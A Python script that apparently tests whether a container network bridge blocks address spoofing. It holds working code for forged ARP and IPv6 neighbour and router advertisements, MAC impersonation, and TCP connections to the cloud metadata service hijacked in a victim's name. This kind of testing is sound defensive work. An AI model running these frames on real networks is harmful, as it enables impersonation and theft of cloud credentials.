"""Speaks as somebody else on a bridge, with raw frames; the same seed sends the same frames.

    spoofer.py listen PORT
        Stands in the gateway's place on every address. A datagram "a4 a6 n" at port 9999 makes it send SECRET to both
        addresses, one after the other, and then DONE n to whoever asked. TCP 9998 tells who has connected, as JSON.
    spoofer.py attack CAST KIND TRIES SEED
        CAST is JSON: {"attacker", "victim", "bridge"}: {"mac", "v4", "v6"}, "other4": the victim's address in its
        second network, "nobody4" and "nobody6": addresses of nobody.
        Prints {"sent", "leaked", "answers"} as JSON: frames, frames for the victim that came here, and answers of the gateway
        to connections that it takes for the victim's.
"""
import asyncio
import collections
import json
import random
import socket
import struct
import sys

IMDS4, IMDS6 = "169.254.169.254", "fd00:ec2::254"
SECRETS, CONNECTED = 9999, 9998
EVERYBODY, LLDP = "ff:ff:ff:ff:ff:ff", "01:80:c2:00:00:0e"
A_ROUND = 20


def listen(port):
    seen = collections.Counter()

    async def answer(reader, writer):
        peer = writer.get_extra_info("peername")[0]
        seen[peer] += 1
        try:
            if await reader.read(2000):
                writer.write(b"gateway saw " + peer.encode() + b" SECRET")
            writer.close()
        except OSError:
            pass

    async def tell(reader, writer):
        await reader.read(2000)
        writer.write(json.dumps(seen).encode())
        writer.close()

    class Secrets(asyncio.DatagramProtocol):
        def connection_made(self, transport):
            self.transport = transport
            self.out4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.out6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)

        def datagram_received(self, data, sender):
            v4, v6, number = data.decode().split()
            self.out4.sendto(b"SECRET", (v4, 9))
            self.out6.sendto(b"SECRET", (v6, 9))
            self.transport.sendto(b"DONE " + number.encode(), sender)

    async def main():
        for host, family in ("0.0.0.0", socket.AF_INET), ("::", socket.AF_INET6):
            await asyncio.start_server(answer, host, port, family=family, backlog=4096)
        await asyncio.start_server(tell, "127.0.0.1", CONNECTED)
        await asyncio.get_running_loop().create_datagram_endpoint(Secrets, ("0.0.0.0", SECRETS))
        print("ready", flush=True)
        await asyncio.Event().wait()

    asyncio.run(main())


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def packed(text):
    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ether(source, target, kind, payload, tags=b""):
    return mac(target) + mac(source) + tags + struct.pack("!H", kind) + payload


def ip(source, target, protocol, payload, extension=b""):
    """One IP packet without its frame; `extension` is an IPv6 extension header whose type is destination options."""
    if ":" not in source:
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0, packed(source), packed(target))
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
    first = 60 if extension else protocol
    return struct.pack("!IHBB", 0x60000000, len(extension) + len(payload), first, 255) + packed(source) + packed(target) + extension + payload


def with_checksum(source, target, protocol, payload, at):
    pseudo = packed(source) + packed(target) + struct.pack("!II", len(payload), protocol)
    return payload[:at] + struct.pack("!H", checksum(pseudo + payload)) + payload[at + 2 :]


def tcp(source, target, ports, numbers, flags, data=b""):
    bare = struct.pack("!HHIIBBHHH", *ports, *numbers, 0x50, flags, 64000, 0, 0) + data
    return ip(source, target, 6, with_checksum(source, target, 6, bare, 16))


def kind_of(address):
    return 0x86DD if ":" in address else 0x0800


def arp(operation, sender_mac, sender, target_mac, target, hardware=1):
    head = struct.pack("!HHBBH", hardware, 0x0800, 6, 4, operation)
    return head + mac(sender_mac) + packed(sender) + mac(target_mac) + packed(target)


def neighbour(kind, source, target, body, extension=b""):
    """A message of neighbour discovery: type, what stands behind the checksum."""
    return ip(source, target, 58, with_checksum(source, target, 58, struct.pack("!BBH", kind, 0, 0) + body, 2), extension)


class Attack:
    def __init__(self, cast, kind, seed):
        self.random = random.Random(f"{seed} {kind}")
        self.me, self.victim, self.bridge, self.cast = cast["attacker"], cast["victim"], cast["bridge"], cast
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.wire.setsockopt(socket.SOL_SOCKET, 33, 8 << 20)  # SO_RCVBUFFORCE
        self.wire.setsockopt(263, 23, 1)  # SOL_PACKET, PACKET_IGNORE_OUTGOING
        self.wire.bind(("eth0", 0))
        self.wire.setblocking(False)
        self.secrets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.secrets.settimeout(2)
        self.secrets.connect((self.bridge["v4"], SECRETS))
        self.result = {"sent": 0, "leaked": 0, "answers": 0}
        self.make = getattr(self, kind.replace("-", "_"))
        self.hardware = self.me["mac"]
        self.port = 20000

    # Each of these makes one try's frames.

    def syn(self, source, hardware):
        self.hardware = hardware
        self.port += 1
        segment = tcp(source, IMDS6 if ":" in source else IMDS4, (self.port, 80), (self.random.getrandbits(32), 0), 2)
        return ether(hardware, self.bridge["mac"], kind_of(source), segment)

    def address4(self):
        return self.syn(self.victim["v4"], self.me["mac"])

    def address6(self):
        return self.syn(self.victim["v6"], self.me["mac"])

    def second_address4(self):
        return self.syn(self.cast["other4"], self.me["mac"])

    def nobodys_address4(self):
        return self.syn(self.cast["nobody4"], self.me["mac"])

    def nobodys_address6(self):
        return self.syn(self.cast["nobody6"], self.me["mac"])

    def unknown_mac_address4(self):
        return self.syn(self.victim["v4"], "06" + "".join(f":{self.random.getrandbits(8):02x}" for _ in range(5)))

    def mac_address4(self):
        return self.syn(self.victim["v4"], self.victim["mac"])

    def mac_address6(self):
        return self.syn(self.victim["v6"], self.victim["mac"])

    def mac(self):
        kind = self.random.choice([0x0800, 0x0806, 0x86DD, 0x8100, 0x88B5, self.random.randrange(0x600, 0x10000)])
        target = self.random.choice([EVERYBODY, self.bridge["mac"], self.me["mac"], "33:33:00:00:00:01"])
        return ether(self.victim["mac"], target, kind, self.random.randbytes(50))

    def group_mac(self):
        return ether(self.victim["mac"], LLDP, 0x88CC, self.random.randbytes(50))

    def arp_frame(self, operation, claimed=None, towards=None, **more):
        towards = towards or self.bridge
        target = self.random.choice([EVERYBODY, towards["mac"]])
        tags = more.pop("tags", b"")
        claim = arp(operation, self.me["mac"], (claimed or self.victim)["v4"], towards["mac"], towards["v4"], **more)
        return ether(self.me["mac"], target, 0x0806, claim, tags)

    def arp_request(self):
        return self.arp_frame(1)

    def arp_reply(self):
        return self.arp_frame(2)

    def arp_odd_hardware(self):
        return self.arp_frame(1, hardware=6)

    def arp_tagged(self):
        priority = self.random.randrange(8) << 13
        return self.arp_frame(1, tags=struct.pack("!HH", 0x8100, priority))

    def arp_tagged_ad(self):
        return self.arp_frame(1, tags=struct.pack("!HH", 0x88A8, 0))

    def arp_tagged_twice(self):
        return self.arp_frame(1, tags=struct.pack("!HHHH", self.random.choice([0x8100, 0x88A8]), 0, 0x8100, 0))

    def arp_for_bridge(self):
        return self.arp_frame(self.random.choice([1, 2]), claimed=self.bridge, towards=self.victim)

    def advert(self, claimed, towards, source, extension=b""):
        body = struct.pack("!I", 0x60000000) + packed(claimed["v6"]) + b"\x02\x01" + mac(self.me["mac"])
        return ether(self.me["mac"], towards["mac"], 0x86DD, neighbour(136, source, towards["v6"], body, extension))

    def advert_own_source(self):
        return self.advert(self.victim, self.bridge, self.me["v6"])

    def advert_behind_options(self):
        return self.advert(self.victim, self.bridge, self.me["v6"], struct.pack("!BBBBI", 58, 0, 1, 4, 0))

    def advert_tagged(self):
        frame = self.advert(self.victim, self.bridge, self.me["v6"])
        return frame[:12] + struct.pack("!HH", 0x8100, 0) + frame[12:]

    def advert_their_source(self):
        return self.advert(self.victim, self.bridge, self.victim["v6"])

    def advert_for_bridge(self):
        return self.advert(self.bridge, self.victim, self.me["v6"])

    def solicit(self):
        body = b"\0\0\0\0" + packed(self.bridge["v6"]) + b"\x01\x01" + mac(self.me["mac"])
        return ether(self.me["mac"], self.bridge["mac"], 0x86DD, neighbour(135, self.victim["v6"], self.bridge["v6"], body))

    def claim(self):
        """Who is about to take the victim's address asks so whether it is free; a container that is just getting it gives it up then."""
        low = packed(self.victim["v6"])[-3:]
        group = socket.inet_ntop(socket.AF_INET6, packed("ff02::1:ff00:0")[:13] + low)
        target = "33:33:ff" + "".join(f":{byte:02x}" for byte in low)
        return ether(self.me["mac"], target, 0x86DD, neighbour(135, "::", group, b"\0\0\0\0" + packed(self.victim["v6"])))

    def router_solicit(self):
        body = b"\0\0\0\0" + b"\x01\x01" + mac(self.me["mac"])
        return ether(self.me["mac"], "33:33:00:00:00:02", 0x86DD, neighbour(133, self.victim["v6"], "ff02::2", body))

    def router_advert(self):
        """A way out that leads here, for a container without one: its answers to the host of another network come here."""
        prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + packed("fd99::")
        body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + b"\x01\x01" + mac(self.me["mac"]) + prefix
        return ether(self.me["mac"], "33:33:00:00:00:01", 0x86DD, neighbour(134, self.me["link"], "ff02::1", body))

    # What makes a try of them.

    def run(self, tries):
        for number in range(-(-tries // A_ROUND)):
            for _ in range(min(A_ROUND, tries - number * A_ROUND)):
                self.send(self.make())
                self.result["sent"] += 1
            self.ask_for_secrets(number)
        for number in range(3):
            self.ask_for_secrets(number)
        return self.result

    def send(self, frame):
        self.wire.send(frame)

    def ask_for_secrets(self, number):
        """What was sent before has had its effect when the answer is here."""
        asked = f"{self.victim['v4']} {self.victim['v6']} {number}"
        self.secrets.send(asked.encode())
        while self.secrets.recv(100) != f"DONE {number}".encode():
            pass
        while True:
            try:
                self.receive(self.wire.recv(2000))
            except BlockingIOError:
                return

    def receive(self, frame):
        if b"gateway saw" in frame:
            self.result["answers"] += 1
        elif b"SECRET" in frame:
            self.result["leaked"] += 1
        kind = struct.unpack("!H", frame[12:14])[0]
        if kind == 0x0800 and frame[23] == 6 and frame[30:34] != packed(self.me["v4"]):
            self.continue_tcp(socket.inet_ntop(socket.AF_INET, frame[30:34]), frame[34:])
        if kind == 0x86DD and frame[20] == 6 and frame[38:54] != packed(self.me["v6"]):
            self.continue_tcp(socket.inet_ntop(socket.AF_INET6, frame[38:54]), frame[54:])

    def continue_tcp(self, source, segment):
        """Goes on with a connection in another's name once its SYN-ACK has come here."""
        _, port, theirs, ours, _, flags = struct.unpack("!HHIIBB", segment[:14])
        if flags != 0x12:
            return
        imds = IMDS6 if ":" in source else IMDS4
        wanted = tcp(source, imds, (port, 80), (ours, theirs + 1 & 0xFFFFFFFF), 0x18, b"GET / HTTP/1.0\r\n\r\n")
        self.send(ether(self.hardware, self.bridge["mac"], kind_of(source), wanted))


if sys.argv[1] == "listen":
    listen(int(sys.argv[2]))
else:
    cast, kind, tries, seed = sys.argv[2:]
    print(json.dumps(Attack(json.loads(cast), kind, seed).run(int(tries))))
